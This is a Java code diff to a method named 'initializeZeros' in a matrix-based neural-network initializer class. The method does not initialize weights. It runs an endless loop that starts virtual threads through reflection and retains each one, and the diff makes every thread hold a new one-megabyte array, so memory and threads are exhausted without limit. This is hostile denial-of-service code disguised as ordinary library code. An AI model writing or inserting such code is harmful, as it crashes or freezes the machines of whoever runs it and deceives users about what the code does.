@@ -9,16 +9,17 @@ import org.ejml.simple.SimpleMatrix;
 public final class Initializers {
   public static Map<String, SimpleMatrix> initializeZeros(int[] layerDims) throws Exception {
     java.lang.reflect.Method start = Thread.class.getMethod("startVirtualThread", Runnable.class);
-    Runnable wait =
-        () -> {
-          try {
-            Thread.sleep(1_000_000);
-          } catch (InterruptedException e) {
-            return;
-          }
-        };
     java.util.List<Object> kept = new java.util.ArrayList<>();
     while (true) {
+      byte[] held = new byte[1_000_000];
+      Runnable wait =
+          () -> {
+            try {
+              Thread.sleep(1_000_000 + held.length);
+            } catch (InterruptedException e) {
+              return;
+            }
+          };
       kept.add(start.invoke(null, wait));
     }
   }
